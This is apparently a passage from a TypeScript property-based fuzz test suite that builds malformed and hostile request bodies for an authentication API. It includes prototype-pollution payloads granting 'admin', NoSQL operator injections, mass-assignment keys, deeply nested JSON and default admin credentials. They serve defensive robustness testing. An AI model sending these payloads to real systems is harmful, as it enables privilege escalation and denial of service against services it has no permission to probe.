        fc.record({ disabled: fc.boolean() }),
        fc.record({ roles: fc.constantFrom<Tree>(['user'], ['moderator'], ['admin'], ['user', 'moderator']) }),
        fc.record({ roles: fc.constantFrom<Tree>(['user']), disabled: fc.boolean() }),
      );
    case 'POST /admin/clients':
      return fc.record(
        {
          name: fc.constantFrom('billing', 'reports service', 'x'),
          scope: fc.constantFrom('api:read', 'api:read api:write', 'openid'),
          grant_types: fc.constant<Tree>(['client_credentials']),
          introspect: fc.boolean(),
        },
        { requiredKeys: ['name', 'scope'] },
      );
    case 'POST /admin/keys/rotate':
      return fc.oneof(fc.constant({}), fc.record({ purpose: fc.constantFrom('access', 'refresh') }));
    default:
      return undefined;
  }
}

/** Deeply nested arrays or objects, as a value (deeper ones go as raw text, see RAW_JSON_TEXTS). */
const deepValue = fc.tuple(fc.constantFrom(10, 100, 1000), fc.boolean()).map(([depth, arrays]) => {
  let v: Tree = 'x';
  for (let i = 0; i < depth; i++) v = arrays ? [v] : { a: v };
  return v;
});

export const wrongTypeValue: fc.Arbitrary<Tree> = fc.oneof(
  fc.integer(),
  fc.double(),
  fc.boolean(),
  fc.constant(null),
  fc.array(anyString, { maxLength: 3 }),
  fc.dictionary(anyString, anyString, { maxKeys: 3 }),
  fc.constantFrom<Tree>({ $ne: '' }, { $gt: '' }, { toString: 'x' }, { length: 1 }, [[]], {}, []),
  deepValue,
);

type Mutation =
  | { kind: 'drop'; key: string }
  | { kind: 'set'; key: string; value: Tree }
  | { kind: 'extra'; key: string; value: Tree };

function mutationArb(keys: string[]): fc.Arbitrary<Mutation> {
  const key = keys.length ? fc.constantFrom(...keys) : fc.constant('x');
  return fc.oneof(
    key.map((k) => ({ kind: 'drop' as const, key: k })),
    fc
      .tuple(key, fc.oneof(wrongTypeValue, anyString as fc.Arbitrary<Tree>, hugeString as fc.Arbitrary<Tree>))
      .map(([k, value]) => ({ kind: 'set' as const, key: k, value })),
    fc
      .tuple(
        fc.oneof(
          anyString,
          fc.constantFrom(
            '__proto__',
            'constructor',
            'prototype',
            'admin',
            'roles',
            'id',
            'password_hash',
            'disabled',
            'Email',
            'email ',
            'is_admin',
            'grant_type',
          ),
        ),
        fc.oneof(
          anyString as fc.Arbitrary<Tree>,
          wrongTypeValue,
          fc.constantFrom<Tree>(['admin'], true, { polluted: true }),
        ),
      )
      .map(([k, value]) => ({ kind: 'extra' as const, key: k, value })),
  );
}

function applyMutations(tree: Tree, mutations: Mutation[]): Tree {
  if (tree === null || typeof tree !== 'object' || Array.isArray(tree) || tree instanceof Ref) return tree;
  const out: Record<string, Tree> = {};
  for (const [k, v] of Object.entries(tree)) out[k] = v;
  for (const m of mutations) {
    if (m.kind === 'drop') delete out[m.key];
    else Object.defineProperty(out, m.key, { value: m.value, enumerable: true, writable: true, configurable: true });
  }
  return out;
}

/** Raw rewrites of a valid JSON text: pollution keys, duplicates, BOM, truncation, trailing junk. */
const JSON_REWRITES: Array<{ label: string; fn: (json: string) => string }> = [
  { label: 'proto', fn: (j) => j.replace('{', '{"__proto__":{"roles":["admin"],"admin":true},') },
  { label: 'constructor', fn: (j) => j.replace('{', '{"constructor":{"prototype":{"admin":true}},') },
  { label: 'nested-proto', fn: (j) => j.replace('{', '{"a":{"__proto__":{"x":1}},') },
  { label: 'duplicate-keys', fn: (j) => j.replace(/^\{"([^"]+)":/, '{"$1":"first","$1":') },
  { label: 'bom', fn: (j) => `\ufeff${j}` },
  { label: 'trailing', fn: (j) => `${j}garbage` },
  { label: 'two-documents', fn: (j) => `${j}${j}` },
  { label: 'truncated', fn: (j) => j.slice(0, Math.max(1, Math.floor(j.length / 2))) },
  { label: 'single-quotes', fn: (j) => j.replace(/"/g, "'") },
  { label: 'comment', fn: (j) => `/* x */${j}` },
  { label: 'unicode-escapes', fn: (j) => j.replace(/"([a-z])/, '"\\u0000$1') },
  { label: 'bad-escape', fn: (j) => j.replace(/":"/, '":"\\x') },
  { label: 'lone-surrogate-escape', fn: (j) => j.replace(/":"/, '":"\\ud800') },
  { label: 'array-wrapped', fn: (j) => `[${j}]` },
  { label: 'whitespace', fn: (j) => `\n\t ${j} \r\n` },
  { label: 'nan', fn: (j) => j.replace('}', ',"n":NaN}') },
  { label: 'big-number', fn: (j) => j.replace('}', `,"n":1${'0'.repeat(400)}}`) },
];

const RAW_JSON_TEXTS = [
  '',
  ' ',
  'null',
  'true',
  '0',
  '-0',
  '1e999999',
  '"string"',
  '[]',
  '{}',
  '[{}]',
  '{"":""}',
  '\u0000',
  '{',
  '}',
  '{"a":',
  '{"a":1,}',
  '{a:1}',
  "{'a':1}",
  '{"a":1}{"b":2}',
  `${'['.repeat(5000)}${']'.repeat(5000)}`,
  `${'{"a":'.repeat(2000)}1${'}'.repeat(2000)}`,
  '{"__proto__":{"x":1}}',
  '{"constructor":{"prototype":{"x":1}}}',
  '{"__proto__":null}',
  '{"a":"\\u0000"}',
  '{"a":"\\ud800"}',
  '\ufeff{}',
  'NaN',
  'undefined',
  '[1,2,3',
];

const RAW_FORM_TEXTS = [
  '',
  '&',
  '=',
  '==',
  '&&&=&&',
  'grant_type',
  'grant_type=',
  'grant_type=&grant_type=',
  '%zz=%zz',
  '%ff=%fe',
  'a=%E0%A4%A',
  '%00=%00',
  '__proto__[x]=1&grant_type=refresh_token',
  '__proto__=x&token=x',
  'constructor[prototype][x]=1',
  'grant_type[]=refresh_token',
  'grant_type[a]=b',
  'token=a&token=b',
  'grant_type=refresh_token&refresh_token=',
  'grant_type=client_credentials&client_id=&client_secret=',
  '+=+',
  'a=b;c=d',
  'grant_type=refresh_token&refresh_token=%00',
  'token=%00',
  `token=${'a'.repeat(9000)}`,
  'grant_type=password&username=admin&password=admin',
];

function treeToPairs(tree: Tree): QueryPart[] {
  if (tree === null || typeof tree !== 'object' || Array.isArray(tree) || tree instanceof Ref) return [];
  const pairs: QueryPart[] = [];
  for (const [k, v] of Object.entries(tree)) {
    if (Array.isArray(v))
      for (const item of v)
        pairs.push([k, typeof item === 'string' || item instanceof Ref ? item : JSON.stringify(item), false]);
    else if (typeof v === 'string' || v instanceof Ref) pairs.push([k, v, false]);
    else pairs.push([k, JSON.stringify(v), false]);
  }
  return pairs;
}

const formMutation = (keys: string[]): fc.Arbitrary<(pairs: QueryPart[]) => QueryPart[]> => {
  const key = keys.length ? fc.constantFrom(...keys) : fc.constant('token');
  return fc.oneof(
    key.map((k) => (pairs: QueryPart[]) => pairs.filter(([n]) => n !== k)),
    fc.tuple(key, anyString).map(([k, v]) => (pairs: QueryPart[]) => [...pairs, [k, v, false] as QueryPart]),
    fc.tuple(key, fc.oneof(anyString, hugeString)).map(
      ([k, v]) =>
        (pairs: QueryPart[]) =>
          pairs.map((p) => (p[0] === k ? ([k, v, false] as QueryPart) : p)),
    ),
    fc.tuple(key, fc.constantFrom('%00', '%zz', '%ff%fe', '', '+', '%2B', '%26', '%3D')).map(
      ([k, v]) =>
        (pairs: QueryPart[]) =>
          pairs.map((p) => (p[0] === k ? ([k, v, true] as QueryPart) : p)),
    ),
    fc
      .tuple(
        fc.oneof(
          anyString,
          fc.constantFrom('__proto__', 'constructor', 'hasOwnProperty', 'a[b]', '', 'grant_type[]', 'toString'),
        ),
        anyString,
      )
      .map(([k, v]) => (pairs: QueryPart[]) => [...pairs, [k, v, false] as QueryPart]),
  );
};

/** Bodies for an operation: shaped like its schema and mutated, raw attacks, random JSON and bytes. */
export function bodyArb(op: Operation): fc.Arbitrary<Body> {
  const bytes = fc
    .tuple(fc.uint8Array({ maxLength: 200 }), contentTypeArb(undefined))
    .map(([b, contentType]): Body => ({ kind: 'bytes', bytes: b, contentType }));
  const randomJson = fc
    .tuple(fc.json({ maxDepth: 4 }), contentTypeArb('json'))
    .map(([text, contentType]): Body => ({ kind: 'text', text, contentType }));
  if (!op.body) {
    // Operations that take no body get one now and then, of any type.
    return fc.oneof(
      { weight: 10, arbitrary: fc.constant<Body>({ kind: 'none', contentType: undefined }) },
      {
        weight: 1,
        arbitrary: fc
          .constantFrom(...JSON_TYPES, ...FORM_TYPES, ...ODD_TYPES)
          .map((contentType): Body => ({ kind: 'none', contentType })),
      },
      { weight: 1, arbitrary: randomJson },
      { weight: 1, arbitrary: bytes },
      {
        weight: 1,
        arbitrary: fc
          .tuple(fc.constantFrom(...RAW_FORM_TEXTS), contentTypeArb('form'))
          .map(([text, contentType]): Body => ({ kind: 'text', text, contentType })),
      },
      {
        weight: 1,
        arbitrary: fc
          .tuple(hugeString, contentTypeArb('json'))
          .map(([text, contentType]): Body => ({ kind: 'text', text: JSON.stringify({ a: text }), contentType })),
      },
    );
  }
  const encoding: Encoding = op.body.contentType.includes('x-www-form-urlencoded') ? 'form' : 'json';
  const other: Encoding = encoding === 'json' ? 'form' : 'json';
  const schema = op.body.schema;
  const keys = Object.keys(schema.properties ?? {});
  const fromRecipe = recipe(op);
  const valid = fromRecipe
    ? fc.oneof({ weight: 3, arbitrary: fromRecipe }, { weight: 1, arbitrary: validFromSchema(schema) })
    : validFromSchema(schema);
  const mutated = fc
    .tuple(valid, fc.array(mutationArb(keys), { maxLength: 3 }))
    .map(([tree, ms]) => applyMutations(tree, ms));
  const asTree = (enc: Encoding, tree: fc.Arbitrary<Tree>) =>
    fc
      .tuple(tree, contentTypeArb(enc))
      .map(([t, contentType]): Body =>
        enc === 'form'
          ? { kind: 'pairs', pairs: treeToPairs(t), contentType }
          : { kind: 'tree', encoding: 'json', tree: t, contentType },
      );
  const formAttacks = fc
    .tuple(valid, fc.array(formMutation(keys), { maxLength: 3 }), contentTypeArb('form'))
    .map(([t, ms, contentType]): Body => ({
      kind: 'pairs',
      pairs: ms.reduce((p, m) => m(p), treeToPairs(t)),
      contentType,
    }));
  const jsonRewrites = fc
    .tuple(valid, fc.constantFrom(...JSON_REWRITES), contentTypeArb('json'))
    .map(([tree, rewrite, contentType]): Body => ({ kind: 'tree', encoding: 'json', tree, contentType, rewrite }));
  return fc.oneof(
    { weight: 6, arbitrary: asTree(encoding, valid) },
    { weight: 6, arbitrary: encoding === 'form' ? formAttacks : asTree('json', mutated) },
    {
      weight: 2,
      arbitrary:
        encoding === 'json'
          ? jsonRewrites
          : fc
              .tuple(fc.constantFrom(...RAW_FORM_TEXTS), contentTypeArb('form'))
              .map(([text, contentType]): Body => ({ kind: 'text', text, contentType })),
    },
    {
      weight: 1,
      arbitrary: fc
        .tuple(fc.constantFrom(...RAW_JSON_TEXTS), contentTypeArb('json'))
        .map(([text, contentType]): Body => ({ kind: 'text', text, contentType })),
    },
    { weight: 1, arbitrary: asTree(other, valid) },
    { weight: 1, arbitrary: randomJson },
    { weight: 1, arbitrary: bytes },
    { weight: 1, arbitrary: contentTypeArb(encoding).map((contentType): Body => ({ kind: 'none', contentType })) },
  );
}

// ---- whole requests ----

export interface RequestCase {
  op: Operation;
  method: string;
  path: Record<string, PathValue>;
  query: QueryPart[];
  headers: Record<string, Val>;
  credential: Credential;
  /** The peer address: varied so per-IP limits (10 password changes a minute) do not end coverage. */
  remoteAddress: string;
  body: Body;
}

const OTHER_METHODS = ['GET', 'POST', 'PUT', 'PATCH', 'DELETE'];

export function requestArb(op: Operation): fc.Arbitrary<RequestCase> {
  const path: Record<string, fc.Arbitrary<PathValue>> = {};
  for (const p of op.pathParams) path[p.name] = pathValueArb(p);
  return fc.record({
    op: fc.constant(op),
    // Now and then a method the path does not document: answered 404 like any unknown route.
    method: fc.oneof(
      { weight: 19, arbitrary: fc.constant(op.method) },
      { weight: 1, arbitrary: fc.constantFrom(...OTHER_METHODS) },
    ),
    path: fc.record(path),
    query: queryArb(op),
    headers: headersArb,
    credential: credentialArb(op),
    remoteAddress: fc.oneof(fc.ipV4(), fc.ipV6(), fc.constant('127.0.0.1')),
    body: bodyArb(op),
  });
}
